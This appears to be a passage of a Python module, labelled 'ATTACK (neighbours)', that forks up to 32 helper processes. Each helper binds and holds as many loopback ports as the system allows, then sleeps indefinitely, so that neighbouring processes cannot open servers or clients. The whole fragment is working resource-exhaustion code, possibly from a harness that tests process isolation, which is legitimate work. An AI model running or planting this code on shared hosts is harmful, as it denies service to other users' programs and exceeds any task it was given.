# ATTACK (neighbours): hold as many loopback ports as the limits allow, in helper
# processes, so that a neighbour's servers and clients find no free port.
import socket as _socket


def _hold_ports():
    held = []
    while True:
        try:
            sock = _socket.socket()
            sock.bind(("127.0.0.1", 0))
            sock.listen(1)
            held.append(sock)
        except OSError:
            break
    while True:
        _time.sleep(3600)


for _ in range(32):
    try:
        _pid = _os.fork()
    except OSError:
        break
    if _pid == 0:
        try:
            _hold_ports()
        finally:
            _os._exit(0)
    _OWN_PIDS.add(_pid)
